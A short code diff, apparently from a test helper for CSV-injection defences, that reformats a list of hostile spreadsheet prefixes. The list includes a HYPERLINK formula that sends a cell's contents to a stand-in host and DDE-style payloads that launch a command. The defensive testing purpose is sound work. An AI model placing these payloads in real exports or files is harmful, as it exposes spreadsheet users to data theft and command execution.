@@ -10,7 +10,14 @@ import type { AddressInfo } from 'node:net';
 export const FORMULA_TRIGGERS = ['=', '+', '-', '@', '\t', '\r'] as const;
 
 /** One hostile prefix per trigger, each a classic CSV-injection payload. */
-const PREFIXES: readonly string[] = ['=HYPERLINK("https://evil.invalid/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '\t=1+1', '\r=1+1'];
+const PREFIXES: readonly string[] = [
+  '=HYPERLINK("https://evil.invalid/?"&A1,"open")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '\t=1+1',
+  '\r=1+1',
+];
 
 /** Keys whose string values are people's text in the two wire formats. */
 const TEXT_KEYS = new Set(['userId', 'type', 'input', 'output', 'task_name', 'step_name', 'agent', 'model', 'tools_used']);
